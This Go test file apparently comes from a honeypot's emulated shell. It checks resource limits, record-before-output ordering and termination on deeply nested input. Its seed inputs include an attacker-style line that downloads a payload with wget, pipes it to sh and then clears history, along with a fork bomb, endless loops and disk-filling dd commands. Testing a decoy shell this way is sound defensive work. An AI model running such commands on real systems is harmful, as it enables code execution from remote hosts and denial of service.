package shell_test

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/providers/decky/servicetest"
	"github.com/decnet/decnet/providers/decky/shell"
	"github.com/decnet/decnet/schema/event"
)

// small are limits that a fuzzed line reaches soon.
var small = shell.Limits{Steps: 3000, Depth: 24, Output: 64 << 10, Pipe: 64 << 10, Work: 2 << 20, Time: 2 * time.Second, Files: 16}

func FuzzRun(f *testing.F) {
	for _, s := range snippets {
		f.Add(s)
	}
	f.Add(`cd /tmp || cd /var/run; wget http://192.0.2.1/x -O- | sh; chmod 777 x; ./x; rm -rf x; history -c`)
	f.Add(`cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'`)
	f.Add(`:(){ :|:& };:`)
	f.Fuzz(func(t *testing.T, line string) {
		if strings.Contains(line, "sleep") || strings.Contains(line, "ping") || len(line) > 4096 {
			t.Skip()
		}
		machine := shell.NewMachine(servicetest.Host(), nil, time.Now)
		s := shell.New(shell.Options{Machine: machine, User: "root", Limits: small})
		var out bytes.Buffer
		began := time.Now()
		if _, err := s.Run(context.Background(), line, shell.ModeExec, strings.NewReader("a b\nc\n"), &out, &out); err != nil {
			t.Fatal(err)
		}
		if took := time.Since(began); took > 10*time.Second {
			t.Errorf("%q took %s", line, took)
		}
		if out.Len() > small.Output+4096 {
			t.Errorf("%q said %d bytes", line, out.Len())
		}
		if used := machine.FS.Used(); used < 0 || used > shell.FSQuota {
			t.Errorf("%q holds %d bytes", line, used)
		}
	})
}

func TestBudgetsHold(t *testing.T) {
	for name, line := range map[string]string{
		"loop": `while true; do :; done`, "recursion": `f() { f; }; f`, "bomb": `:(){ :|:& };:`, "output": `yes`, "pipe": `yes | cat`, "string": `x=aaaaaaaa; while true; do x=$x$x; done`, "substitution": `x='$(eval "$x")'; eval "echo $x"`,
		"files": `while true; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> /tmp/f; done`, "braces": `echo {1..100000}{1..100000}`, "array": `i=0; while true; do a[i++]=x; done`, "nesting": strings.Repeat("(", 500) + "echo" + strings.Repeat(")", 500), "arithmetic": `x=x; echo $((x))`,
		"zero": `cat /dev/zero`, "dd": `dd if=/dev/zero of=/tmp/z bs=1M count=100000`, "glob": `echo /*/*/*/*/*`, "find": `find / -exec echo {} ';'`, "regex": `echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a+)+$b'`, "awk": `awk 'BEGIN { while (1) x = x "aaaaaaaaaaaaaaaaaaaa" }'`, "sources": `echo '. /tmp/s' > /tmp/s; . /tmp/s`,
		"sh": `echo 'sh /tmp/s' > /tmp/s; sh /tmp/s`, "replace": `x=$(yes a | head -c 60000); echo ${x//a/bb} | wc -c`, "seq": `seq 1 100000000`, "stars": `x=$(yes a | head -c 5000); case $x in *a*a*a*a*a*a*a*a*b) ;; esac`, "expr": `expr ` + strings.Repeat("1 + ", 500) + "1",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			machine := shell.NewMachine(servicetest.Host(), nil, time.Now)
			s := shell.New(shell.Options{Machine: machine, User: "root", Limits: small})
			var out bytes.Buffer
			began := time.Now()
			if _, err := s.Run(context.Background(), line, shell.ModeExec, nil, &out, &out); err != nil {
				t.Fatal(err)
			}
			if took := time.Since(began); took > 10*time.Second {
				t.Errorf("took %s", took)
			}
			if out.Len() > small.Output+4096 {
				t.Errorf("said %d bytes", out.Len())
			}
			if used := machine.FS.Used(); used > shell.FSQuota {
				t.Errorf("holds %d bytes", used)
			}
		})
	}
}

func TestRecordComesBeforeOutput(t *testing.T) {
	var order []string
	s := shell.New(shell.Options{Machine: shell.NewMachine(servicetest.Host(), nil, time.Now), User: "root", Record: func(b event.Body) error {
		order = append(order, "record")
		c, ok := b.(*event.Command)
		if !ok || c.Line != "echo a; nosuch" || c.Output != "a\nbash: line 1: nosuch: command not found\n" || c.Known || c.Status != 127 || c.Mode != "exec" || c.User != "root" || c.Cwd != "/root" {
			t.Errorf("%+v", b)
		}
		return nil
	}})
	w := writer(func(p []byte) { order = append(order, "output") })
	if _, err := s.Run(context.Background(), "echo a; nosuch", shell.ModeExec, nil, w, w); err != nil {
		t.Fatal(err)
	}
	if len(order) != 3 || order[0] != "record" {
		t.Errorf("order %v", order)
	}
}

type writer func([]byte)

func (w writer) Write(p []byte) (int, error) { w(p); return len(p), nil }

func TestNothingIsSentThatIsNotOnRecord(t *testing.T) {
	s := shell.New(shell.Options{Machine: shell.NewMachine(servicetest.Host(), nil, time.Now), User: "root", Record: func(event.Body) error { return context.Canceled }})
	sent := 0
	w := writer(func(p []byte) { sent += len(p) })
	if _, err := s.Run(context.Background(), "echo a", shell.ModeExec, nil, w, w); err == nil || sent != 0 {
		t.Errorf("%d bytes sent, error %v", sent, err)
	}
}

func TestDeepNestingEnds(t *testing.T) {
	for _, line := range []string{
		strings.Repeat("(", 100_000), strings.Repeat("if ", 40_000), "echo " + strings.Repeat("$(", 60_000), "echo $((" + strings.Repeat("(", 100_000), "[[ " + strings.Repeat("! ", 60_000), "echo " + strings.Repeat("${x:-", 20_000),
		strings.Repeat("! ", 60_000), strings.Repeat("time ", 20_000), "echo $((" + strings.Repeat("- ", 60_000) + "1))", "[[ " + strings.Repeat("a && ", 20_000) + "a ]]", strings.Repeat("a|", 60_000) + "a", strings.Repeat("true && ", 15_000) + "a",
		"echo $((" + strings.Repeat("1+", 60_000) + "1))", "echo $((" + strings.Repeat("a?b:", 30_000) + "1))", "echo $((" + strings.Repeat("a=", 60_000) + "1))", `awk '` + strings.Repeat("(", 60_000) + `'`, "expr " + strings.Repeat("'(' ", 20_000), "[ " + strings.Repeat("! ", 40_000) + "]",
	} {
		began := time.Now()
		run(t, newShell(t, "root"), line, "")
		if took := time.Since(began); took > 5*time.Second {
			t.Errorf("%.20q took %s", line, took)
		}
	}
}

func TestStatusOfAPipelineIsItsLastCommands(t *testing.T) {
	if _, _, status := run(t, newShell(t, "root"), "false | sh", ""); status != 0 {
		t.Errorf("status %d, want that of sh", status)
	}
}
